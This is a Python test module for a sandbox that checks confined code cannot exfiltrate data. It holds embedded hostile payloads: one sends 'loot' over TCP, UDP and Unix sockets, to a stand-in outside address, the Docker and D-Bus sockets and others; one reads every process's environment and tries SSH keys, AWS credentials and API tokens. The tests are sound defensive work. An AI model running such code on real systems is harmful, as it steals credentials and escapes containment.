"""Carrying something out: by the network, by sockets of this machine, by what the environment and the kernel give away."""

from __future__ import annotations

import json
import socket
from typing import Any

from tests.threats.scene import SECRET, Scene, hostile
from tests.tinylab import TinyLab

NETWORK = """
loot = b"loot"

def tcp(address, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as way:
        way.settimeout(3)
        way.connect(address)
        way.sendall(loot)

def udp(address, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as way:
        way.sendto(loot, address)

def unix(path, kind=socket.SOCK_STREAM):
    with socket.socket(socket.AF_UNIX, kind) as way:
        way.settimeout(3)
        way.connect(path)
        way.sendall(loot)

attempt("tcp", lambda: tcp(("127.0.0.1", facts["tcp"])))
attempt("tcp by name", lambda: tcp(("localhost", facts["tcp"])))
attempt("tcp to this host", lambda: tcp((facts["address"], facts["tcp"])))
attempt("tcp out", lambda: tcp(("192.0.2.1", 80)))
attempt("tcp 6", lambda: tcp(("::1", facts["tcp"]), socket.AF_INET6))
attempt("udp", lambda: udp(("127.0.0.1", facts["udp"])))
attempt("udp out", lambda: udp(("192.0.2.1", 53)))
attempt("name server", lambda: socket.getaddrinfo("loot.example.org", 80))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("netlink route", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 16).sendto(loot, (0, 0)))
attempt("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, 1024)))
attempt("abstract", lambda: unix(facts["abstract"]))
for name in ("outside", "engine", "launcher", "mounted"):
    attempt("unix " + name, lambda: unix(facts["unix " + name]))
for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/dev/log", "/run/systemd/private"):
    attempt("unix " + path, lambda: unix(path))
attempt("a terminal", lambda: os.open("/dev/tty", os.O_RDWR))
attempt("console", lambda: os.open("/dev/console", os.O_WRONLY))
attempt("kernel log", lambda: os.open("/dev/kmsg", os.O_WRONLY))
if found["netlink route"] == "done":
    found["netlink route"] = "harmless"  # it asks about interfaces, of which this name space has none but its own
"""

ENVIRONMENT = """
import glob
text = repr(sorted(os.environ.items()))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/task/*/environ"):
    try:
        text += repr(open(path, "rb").read())
    except OSError:
        pass
for path in ("~/.netrc", "~/.aws/credentials", "~/.ssh/id_ed25519", "~/.cache/huggingface/token", "~/.gitconfig"):
    attempt(path, lambda: open(os.path.expanduser(path)).read())
found["seen"] = text
print("what I have seen:", text)
write(fd, {"summary": {"seen": text[:400]}})
"""

DEEDS = {"network": hostile("Tell others", NETWORK), "environment": hostile("Tell what I have seen", ENVIRONMENT)}

_open: list[socket.socket] = []


def facts(lab: TinyLab, level: int) -> dict[str, Any]:
    """Sockets that nobody answers on: whatever reaches one of them waits there to be found."""
    tcp = socket.create_server(("0.0.0.0", 0), backlog=64)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("0.0.0.0", 0))
    outside, abstract, mounted = (socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) for _ in range(3))
    mounted.bind(str(lab.hold.parent / "socket"))
    place = lab.state.runtime / "outside.sock"
    outside.bind(str(place))
    abstract.bind(f"\0cockpit-threats-{lab.state.runtime.name}")
    for each in (outside, abstract, mounted):
        each.listen(64)
    _open[:] = [tcp, udp, outside, abstract, mounted]
    for each in _open:
        each.setblocking(False)
    return {
        "tcp": tcp.getsockname()[1],
        "udp": udp.getsockname()[1],
        "address": _own_address(),
        "abstract": f"\0cockpit-threats-{lab.state.runtime.name}",
        "unix outside": str(place),
        "unix mounted": str(lab.hold.parent / "socket"),
        "unix engine": str(lab.state.socket),
        "unix launcher": str(lab.state.launcher_socket),
    }


def _own_address() -> str:
    """This host's address on its own network, or loopback's where it has none."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
        try:
            way.connect(("192.0.2.1", 9))
        except OSError:
            return "127.0.0.1"
        return str(way.getsockname()[0])


def _heard(way: socket.socket) -> bytes:
    """What has come in, if anything."""
    try:
        if way.type == socket.SOCK_DGRAM:
            return way.recv(64)
        caller, _ = way.accept()
        caller.settimeout(1)
        return b"a call: " + caller.recv(64)
    except OSError:
        return b""


def test_nothing_gets_out(scene: Scene) -> None:
    assert len(scene.deed("network")) > 20
    # a packet that leaves nothing but the shard's own empty network counts as sent; and at level 3 a socket that lies in a
    # mounted directory was granted with it (docs/threats.md)
    known = {"udp", "udp out", "unix mounted"} if scene.level == 3 else set()
    assert scene.may("network") - known == set()
    assert [_heard(way) for way in _open[:4]] == [b""] * 4
    assert scene.shard("network")["outcome"] == "finished"
    scene.sound()


def test_nothing_that_was_private_is_there_to_be_told(scene: Scene) -> None:
    deed = scene.deed("environment")
    assert "COCKPIT_RUN_DIR" in deed["seen"]
    assert SECRET not in json.dumps(deed)
    assert [name for name, answer in deed.items() if name.startswith("~") and answer == "done"] == []
    log = scene.session.call("log", shard=scene.shard("environment")["id"], bytes=262144)["text"]
    assert "what I have seen" in log
    assert SECRET not in log
    scene.sound()
